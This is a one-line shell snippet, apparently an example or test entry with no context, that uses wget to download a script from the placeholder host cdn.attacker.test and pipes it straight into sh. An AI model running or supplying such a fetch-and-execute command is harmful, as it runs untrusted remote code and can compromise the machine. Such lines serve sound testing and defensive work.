sh -c "$(wget -qO- https://cdn.attacker.test/i.sh)"
